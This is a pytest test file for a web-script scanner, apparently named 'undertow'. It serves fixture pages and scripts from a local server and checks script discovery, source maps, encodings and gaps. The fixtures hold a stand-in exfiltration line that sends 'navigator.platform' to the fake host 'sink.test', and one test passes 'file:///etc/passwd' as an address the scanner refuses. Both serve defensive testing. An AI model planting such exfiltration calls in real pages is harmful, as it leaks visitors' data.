"""Pages at an address: what they hold and name is fetched, from a server that may be hostile."""

from __future__ import annotations

import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import pytest

from undertow.errors import EnvironmentProblem, UsageError
from undertow.scan import scan

CODE = "fetch('https://sink.test/%s?' + navigator.platform)"
MAP = '{"version": 3, "sources": ["src/login.ts"], "names": [], "mappings": "AAKA"}'
ANSWERS = {
    "/page": ("text/html", "<base href=/s/><script src=a.js></script><script>" + CODE % "inline" + "</script>"),
    "/s/a.js": ("text/javascript", CODE % "a" + ";new Worker('w.js')\n//# sourceMappingURL=a.js.map"),
    "/s/a.js.map": ("application/json", MAP),
    "/s/w.js": ("text/javascript", CODE % "worker"),
    "/soft": ("text/html", "<script src=/gone.js></script><script src=/fallback.js></script>"),
    "/fallback.js": ("text/html", "<!doctype html><title>Not found</title>"),
    "/gbk": ("text/javascript; charset=gbk", "fetch('https://sink.test/手?' + navigator.platform)"),
    "/elsewhere.js": ("text/javascript", CODE % "e" + "\n//# sourceMappingURL=http://127.0.0.1:1/e.map"),
    "/header.js": ("text/javascript", CODE % "h"),
    "/odd": ("text/html", "<script src='http://[bad'></script><script src='ftp://x.test/a.js'></script><p>"),
}


class Handler(BaseHTTPRequestHandler):
    def do_GET(self) -> None:
        if self.path == "/moved":
            self.send_response(302)
            self.send_header("Location", "/page")
            self.end_headers()
            return
        kind, text = ANSWERS.get(self.path, ("", ""))
        body = text.encode("gbk" if "gbk" in kind else "utf-8")
        self.send_response(200 if kind else 404)
        self.send_header("Content-Type", kind or "text/plain")
        self.send_header("Content-Length", str(len(body)))
        if self.path == "/header.js":
            self.send_header("SourceMap", "/s/a.js.map")
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, format: str, *args: object) -> None:
        pass


@pytest.fixture(scope="module")
def site() -> Iterator[str]:
    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield f"http://127.0.0.1:{server.server_port}"
    server.shutdown()
    server.server_close()


def test_inline_and_named_scripts_and_their_workers_are_read(site: str) -> None:
    answer = scan(f"{site}/page")
    assert [(s.name, s.kind) for s in answer.scripts] == [
        (f"{site}/page (inline #1)", "inline"),
        (f"{site}/s/a.js", "address"),
        (f"{site}/s/w.js", "address"),
    ]
    assert answer.gaps == ()


def test_addresses_are_relative_to_where_the_page_came_from_in_the_end(site: str) -> None:
    assert [s.name for s in scan(f"{site}/moved").scripts][1:] == [f"{site}/s/a.js", f"{site}/s/w.js"]


def test_the_source_map_says_where_the_code_comes_from(site: str) -> None:
    script = scan(f"{site}/s/a.js").scripts[0]
    assert script.source_map == "a.js.map"
    origin = script.flows[0].origin
    assert origin is not None
    assert (origin.file, origin.line) == ("src/login.ts", 6)


def test_a_source_map_named_in_a_header_is_followed(site: str) -> None:
    assert scan(f"{site}/header.js").scripts[0].source_map == "/s/a.js.map"


def test_a_source_map_on_another_host_is_not_asked_for(site: str) -> None:
    (script,) = scan(f"{site}/elsewhere.js").scripts
    assert [gap.kind for gap in script.gaps] == ["source-map-not-read"]
    assert "not on the host of the script" in script.gaps[0].why
    assert not script.gaps[0].hides_findings


def test_scripts_that_do_not_come_are_gaps(site: str) -> None:
    gaps = {gap.where: gap.why for gap in scan(f"{site}/soft").gaps}
    assert gaps[f"{site}/fallback.js"] == "The server answered with an HTML page instead of a script."
    assert "cannot fetch" in gaps[f"{site}/gone.js"]


def test_a_script_is_read_in_the_encoding_that_the_server_names(site: str) -> None:
    (script,) = scan(f"{site}/gbk").scripts
    assert script.endpoints[0].url == "https://sink.test/手?{}"


def test_addresses_that_are_none_are_passed_over(site: str) -> None:
    with pytest.raises(UsageError, match="no script"):
        scan(f"{site}/odd")


@pytest.mark.parametrize("address", ["file:///etc/passwd", "ftp://x.test/a.js", "javascript://x"])
def test_only_addresses_of_the_web_are_fetched(address: str) -> None:
    with pytest.raises(UsageError, match="only http and https"):
        scan(address)


def test_a_server_that_does_not_answer_is_said() -> None:
    with pytest.raises(EnvironmentProblem, match="cannot fetch"):
        scan("http://127.0.0.1:1/")
